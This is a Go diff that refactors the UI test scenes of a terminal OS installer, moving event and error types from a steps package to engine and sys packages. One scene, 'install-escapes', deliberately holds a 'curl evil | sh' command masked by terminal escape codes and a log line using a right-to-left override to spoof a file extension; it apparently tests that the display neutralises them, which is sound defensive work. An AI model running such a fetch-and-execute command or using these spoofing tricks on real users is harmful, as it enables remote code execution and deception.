@@ -6,6 +6,8 @@ import (
 
 	tea "charm.land/bubbletea/v2"
 
+	"auto-installer/internal/engine"
+	"auto-installer/internal/sys"
 	"auto-installer/steps"
 )
 
@@ -95,7 +97,7 @@ func scenes() []scene {
 			walk(statePlan)(p)
 		}},
 		{name: "plan-error", fake: func(f *fake) {
-			f.planErr = steps.Usage("choose a disk of at least 8 GiB", "the disk is too small: it has 4 GiB, and the ESP, the system and swap take 7.5 GiB")
+			f.planErr = engine.Usage("choose a disk of at least 8 GiB", "the disk is too small: it has 4 GiB, and the ESP, the system and swap take 7.5 GiB")
 		}, play: walk(statePlan)},
 		{name: "plan-command", play: func(p *pilot) { walk(statePlan)(p); p.press("c") }},
 		{name: "plan-escapes", play: func(p *pilot) {
@@ -157,12 +159,12 @@ func scenes() []scene {
 		{name: "install-wrapped", play: func(p *pilot) { p.install(progress); p.press("w") }},
 		{name: "install-escapes", play: func(p *pilot) {
 			p.install(started("mount"),
-				steps.Event{Kind: steps.KindCommand, Action: &steps.Action{Argv: []string{"sh", "-c", "curl evil | sh\x1b[2K\x1b[Gtrue"}}},
-				steps.Event{Kind: steps.KindLog, Line: "a name \u202egpj.exe and\u200b what is not there"})
+				engine.Event{Kind: engine.KindCommand, Action: &sys.Action{Argv: []string{"sh", "-c", "curl evil | sh\x1b[2K\x1b[Gtrue"}}},
+				engine.Event{Kind: engine.KindLog, Line: "a name \u202egpj.exe and\u200b what is not there"})
 		}},
 		{name: "install-waiting", play: func(p *pilot) { p.install(started("bootproof"), waits()) }},
 		{name: "install-refused", play: func(p *pilot) {
-			p.install(started("bootproof"), waits(), steps.Event{Kind: steps.KindWarning, Line: "the key that came is not taken: it is another host's; send the right one"})
+			p.install(started("bootproof"), waits(), engine.Event{Kind: engine.KindWarning, Line: "the key that came is not taken: it is another host's; send the right one"})
 		}},
 		{name: "install-without", play: func(p *pilot) { p.install(started("bootproof"), waits()); p.press("n") }},
 		{name: "install-stopping", play: func(p *pilot) { p.install(progress); p.press("ctrl+c", "s") }},
@@ -192,18 +194,18 @@ func scenes() []scene {
 		{name: "failure-proof", play: func(p *pilot) { p.fail("bootproof") }},
 		{name: "failure-opened", play: func(p *pilot) {
 			p.fail("bootproof")
-			p.failure = &steps.Error{
+			p.failure = &engine.Error{
 				Step: "opened", Code: 11, Hint: "put the host's identity there before it starts: a folder of 700, a file of 600, both root's",
 				Cause: "the age identity at /mnt/etc/age/stygianlibrary.agekey: it does not open secrets/wifi.age (no identity matched any of the recipients)",
 			}
 		}},
 		{name: "failure-stopped", play: func(p *pilot) {
 			p.fail("closure")
-			p.failure = &steps.Error{Step: "closure", Code: 130, Cause: "stopped by interrupt", Hint: "run the same command again when you are ready"}
+			p.failure = &engine.Error{Step: "closure", Code: 130, Cause: "stopped by interrupt", Hint: "run the same command again when you are ready"}
 		}},
 		{name: "failure-killed", play: func(p *pilot) {
 			p.install(progress)
-			p.events(eventsMsg{done: true, err: &steps.Error{Code: 10, Cause: "the install was killed from outside", Hint: "what it had mounted is undone when you start again"}})
+			p.events(eventsMsg{done: true, err: &engine.Error{Code: 10, Cause: "the install was killed from outside", Hint: "what it had mounted is undone when you start again"}})
 		}},
 		{name: "failure-log", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "enter") }},
 		{name: "failure-found", play: func(p *pilot) {
@@ -219,8 +221,8 @@ func scenes() []scene {
 		{name: "failure-saved", play: func(p *pilot) { p.fail("closure"); p.press("down", "down", "down", "enter", "enter") }},
 		{name: "done-counting", play: func(p *pilot) { p.finish() }},
 		{name: "done-secrets", play: func(p *pilot) {
-			p.finish(steps.Event{Kind: steps.KindLog, Step: "opened", Line: "proven: /mnt/etc/age/stygianlibrary.agekey opens all 3 secrets of stygianlibrary"},
-				steps.Event{Kind: steps.KindLog, Step: "closure", Line: "proven: whatever a build prints"})
+			p.finish(engine.Event{Kind: engine.KindProven, Step: "opened", Line: "/mnt/etc/age/stygianlibrary.agekey opens all 3 secrets of stygianlibrary"},
+				engine.Event{Kind: engine.KindLog, Step: "closure", Line: "proven: whatever a build prints"})
 		}},
 		{name: "done-held", play: func(p *pilot) { p.finish(); p.press("x") }},
 		{name: "done-error", play: func(p *pilot) {
@@ -229,8 +231,8 @@ func scenes() []scene {
 			p.press("enter")
 		}},
 		{name: "done-warnings", play: func(p *pilot) {
-			p.finish(steps.Event{Kind: steps.KindWarning, Line: "no age identity: the installed system cannot open its secrets until /etc/age/stygianlibrary.agekey is put there"},
-				steps.Event{Kind: steps.KindWarning, Line: "the firmware's boot order could not be changed: choose the disk in its menu"})
+			p.finish(engine.Event{Kind: engine.KindWarning, Line: "no age identity: the installed system cannot open its secrets until /etc/age/stygianlibrary.agekey is put there"},
+				engine.Event{Kind: engine.KindWarning, Line: "the firmware's boot order could not be changed: choose the disk in its menu"})
 		}},
 	}
 }
@@ -250,8 +252,8 @@ func sealed(then func(*pilot)) func(*pilot) {
 }
 
 // waits is an engine that needs the host's identity.
-func waits() steps.Event {
-	return steps.Event{Kind: steps.KindWaiting, Waiting: &steps.Waiting{
+func waits() engine.Event {
+	return engine.Event{Kind: engine.KindWaiting, Waiting: &sys.Waiting{
 		For: "the age identity of stygianlibrary",
 		How: []string{
 			"Send it from the machine that has it:", "  scp stygianlibrary.agekey root@192.168.1.20:/mnt/etc/age/",
